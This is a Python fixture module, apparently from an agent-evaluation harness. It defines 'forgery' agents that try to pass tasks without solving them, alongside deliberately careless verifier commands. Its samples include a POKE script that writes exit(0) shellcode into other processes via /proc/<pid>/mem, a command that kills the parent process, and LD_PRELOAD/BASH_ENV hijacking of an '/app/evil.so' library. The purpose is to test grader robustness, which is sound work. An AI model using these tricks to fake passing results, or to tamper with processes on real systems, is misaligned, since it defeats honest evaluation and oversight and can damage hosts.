"""Define agents that try to pass a task without solving it, and the tests that verify them.

Each of them must end as failed, timeout or unscored. The tests are as careless as people write
them: they call tools by name, trust files in ``/app``, run what the agent wrote.
"""

from dataclasses import dataclass
from typing import Literal, TypeAlias

from agon.app.containers import Limits, RewardSource
from runners.containers.course import QUICK

Kind: TypeAlias = Literal["busybox", "coreutils", "settings", "bash"]
KINDS: tuple[Kind, ...] = ("busybox", "coreutils")
"""The images: busybox alone; dash, bash, coreutils and Python, as Debian has them.

``settings`` is the second with variables that name folders and files in ``/app``, ``bash`` the
second with bash as ``sh``.
"""
SETTINGS = """\
ENV PATH=/app/.venv/bin:/usr/local/bin:/usr/bin:/bin BASH_ENV=/app/.env ENV=/app/.env
ENV PYTHONPATH=/app/src LD_PRELOAD=/app/evil.so LD_LIBRARY_PATH=/app/lib PYTHONSTARTUP=.startup
"""
SOURCES: tuple[RewardSource, ...] = ("exit_code", "reward_file", "both")

COMPARE = "cmp /app/answer /tests/expected"
SEARCH = "grep -qx 42 answer"
RUN = '[ "$(sh /app/solve.sh)" = 42 ]'
"""Runs the agent's program; what it prints decides."""
PRINTED = "sh /app/solve.sh > /tmp/printed; cmp -s /tmp/printed /tests/expected"
"""The same, with the program as a child of the tests' shell."""
LATER = """\
sh /app/solve.sh > /tmp/printed
python3 -c 'import sys; sys.exit(open("/tmp/printed").read() != "42\\n")'"""
"""Runs the agent's program, then a Python that judges what it printed."""
MODULE = "python3 -c 'import json, solution, sys; sys.exit(solution.answer() != 42)'"
"""Imports a module of the agent."""
PYTEST = """\
echo 'import solution' > /tmp/test_it.py
echo 'def test_answer(): assert solution.answer() == 42' >> /tmp/test_it.py
python3 -m pytest -q -p no:cacheprovider /tmp/test_it.py"""
RUNNER = (
    "python3 -c 'import subprocess as s, sys; "
    'sys.exit(s.run(["sh", "/app/solve.sh"], stdout=-1, timeout=15).stdout != b"42\\n")\''
)
"""A test runner in Python runs the agent's program."""
PYTEST_RUNNER = """\
echo 'import subprocess as s' > /tmp/test_run.py
echo 'def test(): assert s.run(["sh", "/app/solve.sh"], stdout=-1).stdout.strip() == b"42"' \\
    >> /tmp/test_run.py
python3 -m pytest -q -p no:cacheprovider /tmp/test_run.py"""
NESTED = """\
echo '[ "$(sh /app/solve.sh)" = 42 ]' > /tmp/run.sh
timeout 15 env sh /tmp/run.sh && sleep 2"""
"""A script of the tests starts another one, with programs in between.

The timeout of busybox leaves a process for up to a second, which may write no reward."""
BASH = "bash -c 'cmp /app/answer /tests/expected'"
SOLVED = (
    "echo 42 > answer; echo 'echo 42' > solve.sh; echo 'def answer(): return 42' > solution.py; "
    "mkdir -p src; cp solution.py src"
)
"""What an honest agent does; every forgery's tests pass it."""
REWARD = "/logs/verifier/reward.txt"

POKE = r"""
case $(uname -m) in
    aarch64) code='\000\000\200\322\310\013\200\322\001\000\000\324' ;;
    *) code='\061\377\270\347\000\000\000\017\005' ;;
esac
p=1; while [ $p -lt 60 ]; do
    p=$((p+1)); [ $p != $$ ] && [ -e /proc/$p/syscall ] || continue
    set -- $(cat /proc/$p/syscall) || continue
    for at in "$@"; do :; done
    printf "$code" | dd of=/proc/$p/mem bs=1 seek=$((at)) conv=notrunc
done 2> /dev/null
"""
"""A script that writes "exit(0)", for x86-64 and for arm64, where each waiting process goes on."""
INJECTION = f"{POKE}kill -9 $PPID; echo no"


@dataclass(frozen=True)
class Forgery:
    """An agent's script and the tests that verify it.

    Attributes:
        agent: the script.
        judge: the commands whose last exit code says whether the task is solved.
        bounds: limits of both parts.
        outcomes: how it may end.
        kinds: the images that have what it needs.
        tries: how often the tests run; more than once where chance decides.
    """

    agent: str
    judge: str = COMPARE
    bounds: Limits = QUICK
    outcomes: tuple[str, ...] = ("failed",)
    kinds: tuple[Kind, ...] = KINDS
    tries: int = 1


def script_of(judge: str, source: RewardSource) -> str:
    """Return the script of tests whose commands judge: with a reward, or with their exit code.

    Those with a reward end like the templates of the field: the exit code says nothing.
    """
    if source == "exit_code":
        return judge
    return f"if {{ {judge}\n}}; then reward=1; else reward=0; fi\necho $reward > {REWARD}\nexit 0"
